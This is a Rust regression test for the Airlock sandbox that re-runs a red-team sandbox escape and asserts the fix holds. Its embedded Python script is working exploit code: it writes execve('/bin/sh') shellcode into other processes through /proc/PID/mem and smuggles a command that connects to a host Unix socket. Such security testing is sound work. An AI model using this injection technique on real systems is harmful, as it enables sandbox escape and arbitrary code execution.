//! Red-team finding F1 (issue 11, issue 14): under a managed network the command ran next
//! to two processes with a weaker seccomp filter than its own — Airlock's network bridge
//! (which must reach the proxy over `AF_UNIX`) and bubblewrap's init — both dumpable and
//! of the same user. Writing their memory through `/proc/PID/mem`, the command ran its
//! own code under that filter and connected to any host Unix socket (an exec-server's,
//! docker's), a full escape.
//!
//! The test runs the real attack under the real sandbox: for every other process it can
//! see, the confined command opens `/proc/PID/mem` for writing and, where that works,
//! overwrites the code a blocked `accept4` returns to with `execve("/bin/sh", …)` and
//! wakes the thread; the shell connects to a Unix socket the test listens on, outside
//! every writable root. The host side asserts that nobody connected.
#![cfg(target_arch = "x86_64")] // the injected code is x86-64 machine code
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is the failure report

use std::io::Read as _;
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::process::Command;
use std::time::Duration;
use std::time::Instant;

/// Runs inside the sandbox: argv[1] is the shell command to smuggle into another process.
const INJECT: &str = r#"
import os, struct, sys, socket, time
cmd = sys.argv[1].encode()
me = os.getpid()
others = [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != me]
opened = []
for pid in others:
    try:
        with open('/proc/%d/mem' % pid, 'r+b', buffering=0):
            opened.append(pid)
    except OSError as e:
        print('mem of', pid, 'refused:', e.strerror)
print('writable mem:', opened)
def blocked_in_accept(pid):
    out = []
    for t in os.listdir('/proc/%d/task' % pid):
        try:
            line = open('/proc/%d/task/%s/syscall' % (pid, t)).read().split()
        except OSError:
            continue
        if line and line[0] in ('43', '288'):  # accept, accept4
            out.append(int(line[-1], 16))
    return out
def shellcode(base):
    code_len = 10 + 10 + 2 + 5 + 2
    sh = base + code_len; s_c = sh + 8; s_cmd = s_c + 3
    argv = (s_cmd + len(cmd) + 1 + 7) & ~7
    code = (b'\x48\xbf' + struct.pack('<Q', sh) + b'\x48\xbe' + struct.pack('<Q', argv)
            + b'\x31\xd2' + b'\xb8\x3b\x00\x00\x00' + b'\x0f\x05')
    blob = code + b'/bin/sh\0' + b'-c\0' + cmd + b'\0'
    blob += b'\0' * (argv - base - len(blob))
    return blob + struct.pack('<QQQQ', sh, s_c, s_cmd, 0)
for pid in opened:
    for pc in blocked_in_accept(pid)[:1]:
        with open('/proc/%d/mem' % pid, 'r+b', buffering=0) as m:
            m.seek(pc); m.write(shellcode(pc))
        print('patched', pid, hex(pc))
port = os.environ.get('AIRLOCK_NETWORK_PROXY_HTTP', '127.0.0.1:0').split(':')[1]
try:
    socket.create_connection(('127.0.0.1', int(port)), timeout=2)
except OSError:
    pass
time.sleep(2)
print('done')
"#;

#[test]
fn the_command_cannot_take_over_the_bridge_or_init_to_reach_host_sockets() {
    let scratch = tempfile::Builder::new()
        .prefix("airlock-attack-bridge-")
        .tempdir_in("/var/tmp")
        .unwrap();
    let home = scratch.path().join("home");
    let ws = scratch.path().join("ws");
    let outside = scratch.path().join("outside");
    for dir in [&home, &ws, &outside] {
        std::fs::create_dir_all(dir).unwrap();
    }
    std::fs::write(
        home.join("config.toml"),
        "default_permissions = \"net\"\n[permissions.net]\nextends = \":workspace\"\n\
         [permissions.net.network]\nenabled = true\n\
         [permissions.net.network.domains]\n\"allowed.test\" = \"allow\"\n",
    )
    .unwrap();
    std::fs::write(ws.join("inject.py"), INJECT).unwrap();
    let socket = outside.join("host.sock");
    let listener = UnixListener::bind(&socket).unwrap();
    listener.set_nonblocking(true).unwrap();
    let smuggled = format!(
        "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); s.sendall(b'escaped')\"",
        socket.display()
    );
    let out = Command::new(env!("CARGO_BIN_EXE_airlock"))
        .args([
            "sandbox",
            "-C",
            ws.to_str().unwrap(),
            "--",
            "python3",
            "inject.py",
        ])
        .arg(&smuggled)
        .current_dir(&ws)
        .env("AIRLOCK_HOME", &home)
        .env_remove("LD_LIBRARY_PATH") // cargo's; writable in a /tmp checkout
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    // The smuggled shell, had it run, connected at once; give it a moment anyway.
    let deadline = Instant::now() + Duration::from_secs(3);
    let mut received = Vec::new();
    while Instant::now() < deadline {
        if let Ok((mut stream, _)) = listener.accept() {
            stream.set_nonblocking(false).unwrap();
            stream
                .set_read_timeout(Some(Duration::from_secs(2)))
                .unwrap();
            let _ = stream.read_to_end(&mut received);
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(
        received.is_empty(),
        "code smuggled into another sandbox process reached a host socket: {received:?}\n{stdout}\n{stderr}"
    );
    assert!(
        stdout.contains("done"),
        "the attack script ran to its end: {stdout}\n{stderr}"
    );
    assert!(
        stdout.contains("writable mem: []"),
        "no other process's memory is writable from the command: {stdout}\n{stderr}"
    );
    assert!(Path::new(&socket).exists());
}
